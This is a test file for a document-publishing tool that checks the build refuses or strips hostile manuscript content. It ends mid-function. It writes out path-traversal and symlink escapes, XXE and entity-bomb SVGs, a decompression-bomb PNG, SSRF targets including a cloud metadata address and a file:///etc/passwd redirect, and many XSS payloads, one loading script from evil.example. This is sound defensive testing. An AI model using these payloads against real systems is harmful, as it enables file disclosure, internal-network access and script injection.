"""Hostile manuscripts: nothing outside the project is read, nothing is fetched unless asked,
no script survives, and every bad input is reported as `path:line: message` with exit 1."""

from __future__ import annotations

import base64
import http.server
import io
import re
import resource
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pikepdf
import pytest
from lxml import etree
from PIL import Image

from pubkit.pipeline.state import STATE_FILE
from pubkit.rendering.markup import markdown_to_xhtml

from .conftest import run_pubkit

MARKER = "CANARY-5c1e9b7d"
CANARY_SIZE = (61, 47)  # an image of this size in a PDF would be the canary's pixels
OK_SIZE = (40, 30)
HEAD = "---\ntitle: Hostile\nauthor: Mallory\n---\n\n"


def _listing(folder: Path) -> list[Path]:
    """The files of an output folder, without the incremental-build record."""
    return [p for p in folder.iterdir() if p.name != STATE_FILE]


def png(size: tuple[int, int], colour: tuple[int, int, int], comment: str = "") -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    if comment:
        info.add_text("Comment", comment)
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "PNG", pnginfo=info)
    return out.getvalue()


@dataclass
class Project:
    root: Path
    outside: Path

    def manuscript(self, name: str, text: str) -> Path:
        path = self.root / "manuscripts" / f"{name}.md"
        path.write_text(text, encoding="utf-8")
        return path


@pytest.fixture
def project(tmp_path: Path) -> Project:
    """A project with one good image, next to an `outside` folder holding canaries."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "canary.txt").write_text(f"{MARKER} secret text\n")
    (outside / "canary.png").write_bytes(png(CANARY_SIZE, (250, 10, 200), MARKER))
    (outside / "canary.css").write_text(f'body::before {{ content: "{MARKER}"; }}\n')
    (outside / "canary.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f'<text id="x" x="0" y="10">{MARKER}</text></svg>'
    )
    root = tmp_path / "project"
    (root / "manuscripts" / "images").mkdir(parents=True)
    (root / "pubkit.toml").write_text('paper = "letter"\n')
    (root / "manuscripts" / "images" / "ok.png").write_bytes(png(OK_SIZE, (10, 120, 10)))
    (root / "manuscripts" / "images" / "link.png").symlink_to(outside / "canary.png")
    (root / "manuscripts" / "images" / "outdir").symlink_to(outside)
    (root / "manuscripts" / "link.txt").symlink_to(outside / "canary.txt")
    return Project(root, outside)


# -- reading the outputs back ------------------------------------------------------------


def epub_entries(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pdf_streams(path: Path) -> bytes:
    """Every stream of the PDF, decoded where pikepdf can, plus the PDF's text."""
    parts = [path.read_bytes()]
    with pikepdf.open(path) as pdf:
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Stream):
                try:
                    parts.append(obj.read_bytes())
                except pikepdf.PdfError:
                    parts.append(obj.read_raw_bytes())
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, check=True).stdout
    return b"\n".join(parts) + text


def pdf_image_sizes(path: Path) -> set[tuple[int, int]]:
    with pikepdf.open(path) as pdf:
        return {
            (int(obj.Width), int(obj.Height))
            for obj in pdf.objects
            if isinstance(obj, pikepdf.Stream) and obj.get("/Subtype") == "/Image"
        }


def assert_no_canary(out: Path) -> list[Path]:
    outputs = sorted(p for p in out.rglob("*") if p.is_file() and p.name != STATE_FILE)
    marker = MARKER.encode()
    for output in outputs:
        if output.suffix == ".epub":
            for name, data in epub_entries(output).items():
                assert marker not in data, f"{output.name}:{name} carries the canary"
                if name.endswith(".png"):
                    with Image.open(io.BytesIO(data)) as image:
                        assert image.size != CANARY_SIZE, f"{output.name}:{name} is the canary image"
        elif output.suffix == ".pdf":
            assert marker not in pdf_streams(output), f"{output.name} carries the canary"
            assert CANARY_SIZE not in pdf_image_sizes(output), f"{output.name} carries the canary image"
        else:
            assert marker not in output.read_bytes(), output
    return outputs


def lines_of(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.strip()]


def assert_reported(result: subprocess.CompletedProcess, expected: dict[str, str], where: str = "") -> None:
    """No traceback; each manuscript's first line of the report holds its expected message."""
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
    report = lines_of(result.stderr)
    for name, message in expected.items():
        mine = [line for line in report if line.startswith(f"manuscripts/{name}.md:{where}")]
        assert mine and message in mine[0], (name, report)


# -- 1. the resource sandbox --------------------------------------------------------------


def refused_by_sandbox(outside: Path) -> dict[str, tuple[str, str]]:
    """name: (manuscript, expected `:line: message` in the report). Each must fail the build."""
    o = outside
    data_xxe = base64.b64encode(_xxe_svg(o).encode()).decode()
    return {
        "abs-path": (
            HEAD + f"![x]({o}/canary.png)\n",
            ":6: image '" + str(o) + "/canary.png' is an absolute",
        ),
        "dotdot": (
            HEAD + "Intro.\n\n![x](../../outside/canary.png)\n",
            ":8: image '../../outside/canary.png'",
        ),
        "encoded-dotdot": (HEAD + "![x](..%2F..%2Foutside%2Fcanary.png)\n", "points outside the project"),
        "file-url": (HEAD + f"![x](file://{o}/canary.png)\n", ":6: image 'file://"),
        "file-localhost": (HEAD + f"![x](file://localhost{o}/canary.png)\n", ":6: image 'file://localhost"),
        "symlink-file": (HEAD + "![x](images/link.png)\n", ":6: image 'images/link.png' points outside"),
        "symlink-dir": (HEAD + "![x](images/outdir/canary.png)\n", ":6: image 'images/outdir/canary.png'"),
        "raw-img-abs": (HEAD + f'<img src="{o}/canary.png" alt="x">\n', ":6: image '" + str(o)),
        "raw-img-file": (HEAD + f'<p><img src="file://{o}/canary.png" alt="x"></p>\n', ":6: image 'file://"),
        "reference-image": (HEAD + "![x][c]\n\n[c]: ../../outside/canary.png\n", ":8: image '../../outside"),
        "bio-image": (
            "---\ntitle: T\nauthors:\n  - name: A\n    bio: See ![x](../../outside/canary.png)\n"
            "---\n\nBody.\n",
            ":5: image '../../outside/canary.png' points outside",
        ),
        "cover-dotdot": (
            "---\ntitle: T\nauthor: A\ncover: ../../outside/canary.png\n---\n\nBody.\n",
            ":4: front matter: cover: '../../outside/canary.png' points outside",
        ),
        "cover-symlink": (
            "---\ntitle: T\nauthor: A\ncover: images/link.png\n---\n\nBody.\n",
            ":4: front matter: cover: 'images/link.png' points outside",
        ),
        "cover-file-url": (
            f"---\ntitle: T\nauthor: A\ncover: file://{o}/canary.png\n---\n\nBody.\n",
            ":4: front matter: cover: 'file://",
        ),
        "svg-xxe": (HEAD + "![Chart](images/xxe.svg)\n", ":6: image 'images/xxe.svg': SVG declares entities"),
        "data-svg-xxe": (
            HEAD + f'<img alt="x" src="data:image/svg+xml;base64,{data_xxe}">\n',
            ":6: image 'data:image/svg+xml;base64,",
        ),
    }


def sanitised_vectors(url: str, local: str) -> str:
    """Markdown whose every trick to load `url` (a canary file or a server) must be removed.

    `local` is a relative path to a local file that must not be reachable either."""
    return f"""\
<style>@import url("{url}/canary.css"); body {{ background: url({url}/canary.png) }}</style>

<link rel="stylesheet" href="{url}/canary.css">

<div style="background-image: url('{url}/canary.png')">Styled div.</div>

Styled paragraph.
{{: style="background:url({url}/canary.png)" }}

<img src="images/ok.png" srcset="{url}/canary.png 2x" alt="Source set">

<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}/canary.png" width="9" height="9"/></svg>

<object data="{url}/canary.txt"></object><embed src="{url}/canary.txt"><iframe src="{url}/canary.txt">
</iframe>

<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/canary.txt" parse="text"/>

<video poster="{url}/canary.png" src="{url}/canary.txt"></video><audio src="{url}/canary.txt"></audio>

<picture><source srcset="{url}/canary.png"><img src="images/ok.png" alt="Picture"></picture>

<base href="{url}/">

[File link]({url}/canary.txt) and [attachment]({local}){{: rel=attachment }}
and <a rel="attachment" href="{url}/canary.txt">another</a>.

<table background="{url}/canary.png"><tr><td background="{url}/canary.png">cell</td></tr></table>

![Evil SVG](images/evil.svg)

<img alt="Data SVG" src="data:image/svg+xml;base64,{{data_svg}}">

Last paragraph.
"""


def evil_svg(url: str) -> str:
    return f"""\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:xi="http://www.w3.org/2001/XInclude" width="120" height="40">
  <style>@import url({url}/canary.css); rect {{ fill: url({url}/canary.svg#x) }}</style>
  <rect width="120" height="40" fill="#0b5563"/>
  <image href="{url}/canary.png" width="61" height="47"/>
  <image xlink:href="{url}/canary.png" width="61" height="47"/>
  <use href="{url}/canary.svg#x"/>
  <filter id="f"><feImage href="{url}/canary.png"/></filter>
  <xi:include href="{url}/canary.txt" parse="text"/>
  <text x="4" y="24" style="fill: url({url}/canary.png)">Evil chart</text>
</svg>
"""


def test_canary_outside_the_project_never_reaches_an_output(project: Project):
    o = project.outside
    refused = refused_by_sandbox(o)
    images = project.root / "manuscripts" / "images"
    (images / "xxe.svg").write_text(_xxe_svg(o))
    for name, (text, _) in refused.items():
        project.manuscript(name, text)
    (images / "evil.svg").write_text(evil_svg(f"file://{o}"))
    data_svg = base64.b64encode(evil_svg(f"file://{o}").encode()).decode()
    sanitised = sanitised_vectors(f"file://{o}", "link.txt").replace("{data_svg}", data_svg)
    project.manuscript("sanitised", HEAD + sanitised)
    relative = sanitised_vectors("../../outside", "link.txt").replace("{data_svg}", data_svg)
    project.manuscript("relative", HEAD + relative)

    result = run_pubkit("build", cwd=project.root)

    assert_reported(result, {name: expected for name, (_, expected) in refused.items()})
    assert result.returncode == 1
    assert f"{len(refused)} of {len(refused) + 2} manuscript(s) failed" in result.stderr
    outputs = assert_no_canary(project.root / "output")
    assert {p.name for p in outputs} == {"sanitised.pdf", "sanitised.epub", "relative.pdf", "relative.epub"}
    # the good parts of the sanitised manuscript are still there
    body = epub_entries(project.root / "output" / "sanitised.epub")["EPUB/body.xhtml"].decode()
    assert "Styled paragraph." in body and "Last paragraph." in body and 'alt="Evil SVG"' in body


def _xxe_svg(outside: Path) -> str:
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY leak SYSTEM "file://{outside}/canary.txt">]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="20"><text y="15">&leak;</text></svg>\n'
    )


def test_removed_html_is_reported_with_its_line(project: Project):
    o = project.outside
    (project.root / "manuscripts" / "images" / "evil.svg").write_text(evil_svg(f"file://{o}"))
    plain = base64.b64encode(b'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"/>').decode()
    text = HEAD + sanitised_vectors(f"file://{o}", "link.txt").replace("{data_svg}", plain)
    project.manuscript("report", text)
    result = run_pubkit("build", "manuscripts/report.md", "--format", "epub", cwd=project.root)
    assert result.returncode == 0, result.stderr
    warnings = [line for line in lines_of(result.stderr) if ": warning: " in line]
    expected = [
        (6, "removed <style>"),
        (8, "removed <link>"),
        (10, "removed the style attribute"),
        (13, "removed the style attribute"),
        (15, "removed the srcset attribute"),
        (17, "removed <svg>"),
        (19, "removed <object>"),
        (19, "removed <embed>"),
        (19, "removed <iframe>"),
        (22, "removed <xi:include>"),
        (24, "removed <video>"),
        (28, "removed <base>"),
        (30, "removed the link to 'file://"),
        (30, "removed the rel attribute"),
        (33, "removed the background attribute"),
        (35, "image 'images/evil.svg': removed <style>"),
        (35, "image 'images/evil.svg': removed <image>"),
        (35, "image 'images/evil.svg': removed <use>"),
        (35, "image 'images/evil.svg': removed <xi:include>"),
    ]
    for line, message in expected:
        assert any(w.startswith(f"manuscripts/report.md:{line}: warning: {message}") for w in warnings), (
            line,
            message,
            warnings,
        )
    assert run_pubkit("build", "manuscripts/report.md", "--strict", cwd=project.root).returncode == 1


def test_a_theme_outside_the_project_is_refused(project: Project):
    theme = project.outside / "theme"
    (theme / "templates").mkdir(parents=True)
    (theme / "print.css").write_text(f'body::before {{ content: "{MARKER}"; }}\n')
    (project.root / "pubkit.toml").write_text('paper = "letter"\ntheme = "../../outside/theme"\n')
    project.manuscript("themed", HEAD + "Body.\n")
    result = run_pubkit("build", "manuscripts/themed.md", cwd=project.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert lines_of(result.stderr)[0].startswith("pubkit.toml:2: theme '../../outside/theme'"), result.stderr
    assert not (project.root / "output").exists()


# -- 1b. no network unless asked ------------------------------------------------------------


class _Server:
    """A local HTTP server that counts requests; paths choose what it answers."""

    def __init__(self):
        self.requests: list[str] = []
        self.ok_png = png(OK_SIZE, (200, 30, 30))
        server = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *args):  # keep the test output clean
                pass

            def do_GET(self):
                server.requests.append(self.path)
                if self.path.startswith("/ok.png"):
                    self._send(server.ok_png, "image/png")
                elif self.path.startswith("/huge.png"):
                    self.send_response(200)
                    self.send_header("Content-Type", "image/png")
                    self.end_headers()
                    chunk = b"\0" * 65536
                    try:
                        self.wfile.write(server.ok_png[:33])
                        for _ in range(64):  # 4 MiB, well over the 1 MiB limit the test sets
                            self.wfile.write(chunk)
                    except OSError:
                        pass
                elif self.path.startswith("/slow.png"):
                    self.send_response(200)
                    self.send_header("Content-Type", "image/png")
                    self.end_headers()
                    try:
                        for byte in server.ok_png:  # one byte every 0.2 s: about a minute
                            self.wfile.write(bytes([byte]))
                            self.wfile.flush()
                            time.sleep(0.2)
                    except OSError:
                        pass
                elif self.path.startswith("/to-private?port="):
                    self.send_response(302)
                    self.send_header("Location", f"http://127.0.0.2:{self.path.split('=')[1]}/ok.png")
                    self.end_headers()
                elif self.path.startswith("/redirect"):
                    self.send_response(302)
                    self.send_header("Location", "file:///etc/passwd")
                    self.end_headers()
                elif self.path.startswith("/page.html"):
                    self._send(b"<html><body>not an image</body></html>", "text/html")
                else:
                    self._send(b"", "text/plain", status=404)

            def _send(self, data: bytes, media_type: str, status: int = 200):
                self.send_response(status)
                self.send_header("Content-Type", media_type)
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def server():
    with _Server() as running:
        yield running


def test_a_default_build_makes_no_request(project: Project, server: _Server):
    url = server.url
    host = url.removeprefix("http:")
    # A web image in the text is not fetched: a warning at its line, its alt text in a frame.
    not_fetched = {
        "md-image": (HEAD + f"![x]({url}/ok.png)\n", f":6: warning: image '{url}/ok.png' is a web address"),
        "raw-image": (
            HEAD + f'<img src="{url}/ok.png" alt="x">\n',
            f":6: warning: image '{url}/ok.png' is a web address",
        ),
        "protocol-relative": (
            HEAD + f'<img src="{host}/ok.png" alt="x">\n',
            f":6: warning: image '{host}/ok.png' is a web address",
        ),
        "bio": (
            f"---\ntitle: T\nauthors:\n  - name: A\n    bio: Hi ![x]({url}/ok.png)\n---\n\nBody.\n",
            f":5: warning: image '{url}/ok.png' is a web address",
        ),
    }
    refused = {  # the cover is the book's own: it must be there
        "cover": (
            f"---\ntitle: T\nauthor: A\ncover: {url}/ok.png\n---\n\nBody.\n",
            ":4: front matter: cover:",
        ),
    }
    for name, (text, _) in {**not_fetched, **refused}.items():
        project.manuscript(name, text)
    (project.root / "manuscripts" / "images" / "evil.svg").write_text(evil_svg(url))
    data_svg = base64.b64encode(evil_svg(url).encode()).decode()
    project.manuscript("sanitised", HEAD + sanitised_vectors(url, f"{url}/x").replace("{data_svg}", data_svg))

    result = run_pubkit("build", cwd=project.root)

    assert server.requests == []
    assert_reported(result, {name: expected for name, (_, expected) in {**not_fetched, **refused}.items()})
    assert result.returncode == 1
    built = {"sanitised", *not_fetched}
    assert {p.name for p in _listing(project.root / "output")} == {
        f"{name}.{kind}" for name in built for kind in ("pdf", "epub")
    }
    for name, data in epub_entries(project.root / "output" / "sanitised.epub").items():
        assert b"127.0.0.1" not in data or name.endswith(".xhtml"), name  # no remote resource
    body = epub_entries(project.root / "output" / "sanitised.epub")["EPUB/body.xhtml"]
    root = etree.fromstring(body)
    assert not [el for el in root.iter() if "127.0.0.1" in (el.get("src") or "")]
    for name in ("md-image", "raw-image", "protocol-relative"):
        body = epub_entries(project.root / "output" / f"{name}.epub")["EPUB/body.xhtml"]
        assert b'<span class="image-unavailable">x</span>' in body and b"127.0.0.1" not in body


def test_allow_remote_reaches_only_public_addresses(project: Project, server: _Server):
    """--allow-remote alone does not reach loopback, private or link-local addresses, nor through
    a name that resolves to one, nor through a redirect: not one request arrives."""
    url = server.url
    port = url.rsplit(":", 1)[1]
    project.manuscript("loopback", HEAD + f"![x]({url}/ok.png)\n")
    project.manuscript("by-name", HEAD + f"![x](http://localhost:{port}/ok.png)\n")
    project.manuscript("metadata", HEAD + "![x](http://169.254.169.254/latest/meta-data.png)\n")
    project.manuscript("private", HEAD + "![x](http://10.0.0.1/chart.png)\n")
    project.manuscript("mapped", HEAD + f"![x](http://[::ffff:127.0.0.1]:{port}/ok.png)\n")

    result = run_pubkit("build", "--allow-remote", cwd=project.root)

    assert server.requests == []
    refusal = "is on a private, loopback or link-local address ({})"
    addresses = {
        "loopback": "127.0.0.1",
        "by-name": "127.0.0.1",
        "metadata": "169.254.169.254",
        "private": "10.0.0.1",
        "mapped": "127.0.0.1",
    }
    assert_reported(result, {name: refusal.format(a) for name, a in addresses.items()}, where="6: image ")
    assert result.returncode == 1
    assert not (project.root / "output").exists() or not list((project.root / "output").iterdir())


def test_a_redirect_to_a_private_address_is_refused(server: _Server, monkeypatch):
    """The check is made on every connection, so a redirect cannot lead to a private address.
    127.0.0.1 stands in for a public host here; the redirect leads to 127.0.0.2 (loopback)."""
    from pubkit.rendering import resources

    monkeypatch.setattr(resources, "is_public", lambda ip: str(ip) == "127.0.0.1")
    port = server.url.rsplit(":", 1)[1]
    assert isinstance(resources.fetch_remote(f"{server.url}/ok.png", 5, 1 << 20), bytes)
    answer = resources.fetch_remote(f"{server.url}/to-private?port={port}", 5, 1 << 20)
    assert answer.startswith("is on a private, loopback or link-local address (127.0.0.2)"), answer
    assert server.requests == ["/ok.png", f"/to-private?port={port}"]


def test_allow_remote_fetches_bounded_and_embeds(project: Project, server: _Server):
    settings = "remote_timeout = 2\nremote_max_mb = 1\nremote_private = true  # the server is on loopback\n"
    (project.root / "pubkit.toml").write_text(settings)
    url = server.url
    project.manuscript("remote", HEAD + f"![A remote chart]({url}/ok.png)\n")
    project.manuscript("huge", HEAD + f"![x]({url}/huge.png)\n")
    project.manuscript("slow", HEAD + f"![x]({url}/slow.png)\n")
    project.manuscript("redirect", HEAD + f"![x]({url}/redirect)\n")
    project.manuscript("not-image", HEAD + f"![x]({url}/page.html)\n")
    project.manuscript("missing", HEAD + f"![x]({url}/gone.png)\n")

    started = time.monotonic()
    result = run_pubkit("build", "--allow-remote", cwd=project.root)
    elapsed = time.monotonic() - started

    assert "Traceback" not in result.stderr and "internal error" not in result.stderr, result.stderr
    report = "\n".join(lines_of(result.stderr))
    assert f"manuscripts/huge.md:6: image '{url}/huge.png' is larger than 1 MiB" in report
    assert f"manuscripts/slow.md:6: image '{url}/slow.png' took longer than 2 s to download" in report
    assert f"manuscripts/redirect.md:6: image '{url}/redirect' redirects to 'file:///etc/passwd'" in report
    assert f"manuscripts/not-image.md:6: image '{url}/page.html' is not a PNG, JPEG, GIF, WebP" in report
    assert f"manuscripts/missing.md:6: image '{url}/gone.png' cannot be downloaded: HTTP 404" in report
    assert "5 of 6 manuscript(s) failed" in report
    assert elapsed < 40  # the slow server would take a minute
    assert sorted(server.requests) == sorted(
        ["/ok.png", "/huge.png", "/slow.png", "/redirect", "/page.html", "/gone.png"]
    )
    epub = epub_entries(project.root / "output" / "remote.epub")
    assert server.ok_png in epub.values()
    assert "127.0.0.1" not in epub["EPUB/body.xhtml"].decode()
    assert OK_SIZE in pdf_image_sizes(project.root / "output" / "remote.pdf")


# -- 2. sanitised HTML -------------------------------------------------------------------------

SCRIPT_VECTORS = """\
<script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>

<img src="images/ok.png" alt="ok" onerror="alert(1)" onload=alert(2)>

[plain](javascript:alert(1)) [mixed](JaVaScRiPt:alert(1)) [tab](jav&#x09;ascript:alert(1))
[entity](&#106;avascript:alert(1)) [vb](vbscript:msgbox) [spaced]( javascript:alert(1))

<a href=" javascript:alert(1)">raw</a> <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>

Attribute list.
{: onclick="alert(1)" onmouseover=alert(2) }

[listed](https://example.com){: href="javascript:alert(1)" onfocus="x()" }

<svg onload="alert(1)"><script>alert(2)</script></svg>

<details open ontoggle="alert(1)"><summary>s</summary>d</details>

<math><mi xlink:href="javascript:alert(1)">x</mi></math>

<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">b</button></form>

<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>

![Scripted SVG](images/script.svg)

<img alt="Data SVG" src="data:image/svg+xml;base64,DATA">

Last.[^1] A [good link](https://example.com/ok).

[^1]: A note with [a bad link](javascript:alert(1)).
"""

SCRIPTED_SVG = """\
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="20"
     onload="alert(1)">
  <script>alert(2)</script>
  <a xlink:href="javascript:alert(3)"><rect width="50" height="20" onclick="alert(4)"/></a>
  <set attributeName="onmouseover" to="alert(5)"/>
  <animate attributeName="href" values="javascript:alert(6)"/>
  <foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(7)</script></body></foreignObject>
</svg>
"""


def test_no_script_survives_into_the_epub_or_the_pdf(project: Project):
    (project.root / "manuscripts" / "images" / "script.svg").write_text(SCRIPTED_SVG)
    data_svg = base64.b64encode(SCRIPTED_SVG.encode()).decode()
    front = (
        "---\ntitle: \"<script>alert('t')</script> Title\"\nauthors:\n"
        "  - name: A\n    bio: 'Bio <script>alert(1)</script> [x](javascript:alert(1))'\n"
        "disclaimer: '<img src=images/ok.png alt=ok onerror=alert(1)> [y](javascript:alert(1))'\n---\n\n"
    )
    project.manuscript("scripts", front + SCRIPT_VECTORS.replace("DATA", data_svg))
    result = run_pubkit("build", "manuscripts/scripts.md", cwd=project.root)
    assert result.returncode == 0, result.stderr
    report = result.stderr
    assert "manuscripts/scripts.md:5: warning: removed <script> and its content" in report  # the bio
    # line 6: the disclaimer
    assert "manuscripts/scripts.md:6: warning: removed the onerror attribute from <img>" in report
    assert "manuscripts/scripts.md:9: warning: removed <script> and its content" in report
    assert "manuscripts/scripts.md:11: warning: removed the onerror attribute from <img>" in report
    assert "manuscripts/scripts.md:19: warning: removed the onclick attribute from <p>" in report

    epub = epub_entries(project.root / "output" / "scripts.epub")
    documents = {n: d for n, d in epub.items() if n.endswith((".xhtml", ".svg", ".ncx", ".opf"))}
    assert "EPUB/body.xhtml" in documents and any(n.endswith(".svg") for n in documents)
    for name, data in documents.items():
        lowered = data.lower()
        assert b"<script" not in lowered and b"javascript:" not in lowered, name
        assert b"vbscript:" not in lowered, name
        root = etree.fromstring(data)
        for el in root.iter():
            for attribute, value in el.attrib.items():
                local = etree.QName(attribute).localname.lower()
                assert not local.startswith("on"), (name, el.tag, attribute)
                if local in ("href", "src", "action", "formaction", "data"):
                    assert re.match(r"(https?:|mailto:|#|[\w./-]+$)", value.strip()), (name, attribute, value)
    assert "Last." in documents["EPUB/body.xhtml"].decode()

    with pikepdf.open(project.root / "output" / "scripts.pdf") as pdf:
        uris = []
        for page in pdf.pages:
            for annot in page.get("/Annots", []):
                action = annot.get("/A")
                if action is not None:
                    assert action.get("/S") != "/JavaScript"
                    if "/URI" in action:
                        uris.append(str(action.URI))
        assert pdf.Root.get("/OpenAction") is None
        assert "/JavaScript" not in pdf.Root.get("/Names", {})
        for obj in pdf.objects:
            if isinstance(obj, pikepdf.Dictionary):
                assert "/JS" not in obj and obj.get("/S") != "/JavaScript"
    assert uris and all(uri.startswith(("https://", "http://", "mailto:")) for uri in uris), uris


def test_attribute_lists_cannot_inject_handlers_styles_or_sources():
    fragment = markdown_to_xhtml(
        'Para\n{: onclick="x()" style="background:url(http://x/y.png)" data-x="1" }\n\n'
        '![alt](ok.png){: src="http://evil/x.png" onerror="x()" }\n'
    )
    assert "onclick" not in fragment.html and "url(" not in fragment.html and "onerror" not in fragment.html
    assert fragment.images == ("http://evil/x.png",)  # the injected source is what gets checked
    removed = sorted(f.message for f in fragment.findings)
    assert any("onclick" in m for m in removed) and any("style" in m for m in removed)
    assert any("onerror" in m for m in removed)


def test_document_tags_and_their_handlers_are_reported():
    fragment = markdown_to_xhtml('<html><body onload="alert(1)">Text</body></html>\n')
    assert fragment.html == "<p>Text</p>" or "onload" not in fragment.html
    assert [f.message for f in fragment.findings] == [
        "removed <html>: not allowed in a manuscript",
        "removed <body>: not allowed in a manuscript",
    ]


def test_table_alignment_is_kept_but_no_other_style():
    html = markdown_to_xhtml(
        '| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n<p style="text-align: center; color: url(x)">c</p>\n'
    ).html
    assert 'class="align-center"' in html and 'class="align-right"' in html  # Markdown tables
    assert '<p style="text-align: center;">c</p>' in html  # raw HTML
    assert "url(" not in html and "color" not in html


def test_control_characters_in_the_body_are_removed_and_reported(project: Project):
    project.manuscript("control", HEAD + "Bell \x07 here.\n\nPlaceholder \x02wzxhzdk:0\x03 there.\n")
    result = run_pubkit("build", "manuscripts/control.md", "--format", "epub", cwd=project.root)
    assert result.returncode == 0, result.stderr
    assert "manuscripts/control.md:6: warning: removed the control character U+0007" in result.stderr
    assert "manuscripts/control.md:8: warning: removed the control character U+0002" in result.stderr
    body = epub_entries(project.root / "output" / "control.epub")["EPUB/body.xhtml"].decode()
    assert "Bell  here." in body and "Placeholder wzxhzdk:0 there." in body


# -- 2b. images: SVG parsing and decompression bombs ---------------------------------------


def test_an_image_declaring_huge_dimensions_is_refused_before_decoding(project: Project):
    # A real PNG header declaring 30000 x 30000 pixels, with a tiny (invalid) body: refused
    # by its declared size, without decoding (which would need 3.6 GB).
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0))
    bomb += chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")
    images = project.root / "manuscripts" / "images"
    (images / "bomb.png").write_bytes(bomb)
    project.manuscript("bomb", HEAD + "Text.\n\n![Bomb](images/bomb.png)\n")
    project.manuscript("bomb-cover", "---\ntitle: T\nauthor: A\ncover: images/bomb.png\n---\n\nBody.\n")
    result = run_pubkit("build", "manuscripts/bomb.md", "manuscripts/bomb-cover.md", cwd=project.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert (
        "manuscripts/bomb.md:8: image 'images/bomb.png' is 30000 x 30000 pixels (900 megapixels); "
        "the limit is 50" in result.stderr
    )
    assert (
        "manuscripts/bomb-cover.md:4: front matter: cover: 'images/bomb.png' is 30000 x 30000"
        in result.stderr
    )
    assert not (project.root / "output").exists()


def test_svg_entity_expansion_is_refused(project: Project):
    laughs = (
        '<?xml version="1.0"?>\n<!DOCTYPE svg [\n<!ENTITY a "ha">\n'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">\n' for i in range(8))
        + ']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&i;</text></svg>\n'
    )
    (project.root / "manuscripts" / "images" / "laughs.svg").write_text(laughs)
    project.manuscript("laughs", HEAD + "![Laughs](images/laughs.svg)\n")
    result = run_pubkit("build", "manuscripts/laughs.md", cwd=project.root)
    assert result.returncode == 1
    assert "manuscripts/laughs.md:6: image 'images/laughs.svg': SVG declares entities" in result.stderr


# -- 3. bad input classes that need more than one file or a hostile machine ------------------


def test_same_slug_twice_is_refused_before_anything_is_written(project: Project):
    for folder in ("a", "b"):
        (project.root / folder).mkdir()
        (project.root / folder / "guide.md").write_text(HEAD + f"From {folder}.\n")
    out = project.root / "output"
    out.mkdir()
    (out / "guide.epub").write_bytes(b"previous build")
    result = run_pubkit("build", "a/guide.md", "b/guide.md", "--format", "epub", cwd=project.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert (
        "b/guide.md:1: the slug 'guide' is also the slug of a/guide.md; both would write guide.epub "
        "(rename one of them)" in result.stderr
    )
    assert result.stdout == ""
    assert (out / "guide.epub").read_bytes() == b"previous build"
    assert sorted(p.name for p in _listing(out)) == ["guide.epub"]


def test_an_output_folder_under_a_file_is_reported(project: Project):
    project.manuscript("fine", HEAD + "Body.\n")
    (project.root / "blocker").write_text("a file, not a folder")
    result = run_pubkit("build", "manuscripts/fine.md", "--out", "blocker/out", cwd=project.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    first = lines_of(result.stderr)[0]
    assert first.startswith("manuscripts/fine.md:1: cannot write blocker/out/fine."), first
    assert "Not a directory" in first or "File exists" in first
    assert (project.root / "blocker").read_text() == "a file, not a folder"


def test_an_output_folder_that_is_a_file_is_reported(project: Project):
    project.manuscript("fine", HEAD + "Body.\n")
    (project.root / "out.txt").write_text("keep me")
    result = run_pubkit("build", "manuscripts/fine.md", "--out", "out.txt", cwd=project.root)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert lines_of(result.stderr)[0].startswith("manuscripts/fine.md:1: cannot write out.txt/fine."), (
        result.stderr
    )
    assert (project.root / "out.txt").read_text() == "keep me"


def _run_with_file_size_limit(args: list[str], cwd: Path, limit: int) -> subprocess.CompletedProcess:
